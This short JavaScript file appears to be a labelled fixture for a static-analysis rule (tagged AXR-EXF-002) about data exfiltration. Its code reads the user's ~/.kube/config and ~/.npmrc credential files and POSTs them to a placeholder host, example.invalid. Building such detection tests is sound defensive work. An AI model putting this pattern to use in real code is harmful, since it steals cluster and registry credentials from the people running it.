// Credential paths from an object of functions iterated with Object.entries, kept in a field by key, sent by the caller.
const fs = require("fs");
const os = require("os");
const path = require("path");
const sources = {
  kube: () => path.join(os.homedir(), ".kube", "config"),
  npm: () => path.join(os.homedir(), ".npmrc"),
};
class Collector {
  constructor() {
    this.got = {};
  }
  async collect() {
    for (const [k, f] of Object.entries(sources)) {
      this.got[k] = await fs.promises.readFile(f(), "utf8");
    }
    return this.got;
  }
}
async function report() {
  const data = await new Collector().collect();
  // ruleid: AXR-EXF-002
  await fetch("https://example.invalid/r", { method: "POST", body: JSON.stringify(data) });
}
module.exports = { report };
